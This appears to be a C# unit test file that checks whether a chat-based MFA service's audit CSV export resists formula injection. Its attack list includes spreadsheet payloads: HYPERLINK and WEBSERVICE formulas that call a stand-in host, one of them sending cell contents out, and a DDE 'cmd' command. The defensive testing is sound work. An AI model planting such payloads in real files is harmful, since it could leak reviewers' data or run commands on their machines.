using ChatOpsMfa.Channels;
using ChatOpsMfa.Requests;
using ChatOpsMfa.Storage;

namespace ChatOpsMfa.Tests.Audit;

/// <summary>
/// An attacker chooses their chat display name and the text of a note, both of which land in the audit CSV that a
/// reviewer opens in a spreadsheet. Whatever separator the spreadsheet splits on (',' here, ';' in many locales,
/// '|' or tab on import, a line break), no cell it makes may start a formula (OWASP "CSV injection").
/// </summary>
public class AuditCsvInjectionTests
{
    // Half-width and full-width formula starts (spreadsheets in CJK locales read U+FF1D as '=').
    private const string FormulaStarts = "=+-@\uFF1D\uFF0B\uFF0D\uFF20";
    private const string Separators = ";,|\t\r\n";

    public static TheoryData<string> Attacks =>
    [
        "Bob;=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
        "x|@SUM(1)",
        "\uFF1D1+1",
        "a\t-1",
        "note,+cmd|' /C calc'!A0",
        "line one\r\n=HYPERLINK(\"http://evil.example\")",
        "ok; \"=1+1\"",
        "=WEBSERVICE(\"http://evil.example\")",
        "\t=1",
    ];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Every_cell_of_the_export_is_quoted()
    {
        using var host = new AuditHost(AuditHost.Key);
        await AuditSeed.WriteAsync(host.Store, Ct);

        var text = await host.Authorized("text/csv").GetStringAsync("/api/audit", Ct);

        var records = CsvTestReader.Read(text, everyFieldQuoted: true);
        Assert.Equal(6, records.Count);
        Assert.StartsWith("\"id\",\"requestId\",", text, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task A_display_name_or_note_cannot_start_a_formula_under_any_separator(string attack)
    {
        using var host = new AuditHost(AuditHost.Key);
        var mallory = new ChatUser("mallory", attack, "mallory@example.com");
        var request = new ResetRequest(
            "req-mallory", mallory, new ConversationRef("local", "dm-mallory"), new TargetUser("00umallory", "mallory@example.com", attack),
            new FactorRequest("token:software:totp", "GOOGLE", "Google Authenticator"), AuditSeed.T0, DateTimeOffset.MaxValue.AddYears(-1));
        await host.Store.CreateAsync(request, new AuditNote(mallory.Id, mallory.Name, "Requested"), [], Ct);
        await host.Store.AuditAsync(request, new AuditNote(mallory.Id, mallory.Name, "Commented", attack), AuditSeed.T0.AddMinutes(1), Ct);

        var text = await host.Authorized("text/csv").GetStringAsync("/api/audit", Ct);

        var records = CsvTestReader.Read(text);
        Assert.Equal(3, records.Count);
        foreach (var cell in records.SelectMany(r => r))
        {
            AssertNoPieceStartsAFormula(cell);
        }

        // Neutralised, not removed: the reviewer still reads what the attacker wrote, behind an apostrophe.
        Assert.Equal(attack, Readable(records[1][5]));
        Assert.Equal(attack, Readable(records[2][9]));
    }

    private static void AssertNoPieceStartsAFormula(string cell)
    {
        Assert.False(cell.Length > 0 && cell[0] is '\t' or '\r', $"Cell starts with a tab or CR: '{cell}'.");
        foreach (var piece in cell.Split(Separators.ToCharArray()))
        {
            var start = piece.TrimStart(' ', '"');
            Assert.False(start.Length > 0 && FormulaStarts.Contains(start[0], StringComparison.Ordinal), $"A piece of '{cell}' starts a formula: '{piece}'.");
        }
    }

    // The cell as written, less the apostrophes the export put in front of formula starts.
    private static string Readable(string cell)
    {
        var text = cell;
        foreach (var start in FormulaStarts.Append('\t').Append('\r'))
        {
            text = text.Replace("'" + start, start.ToString(), StringComparison.Ordinal);
        }

        return text;
    }
}
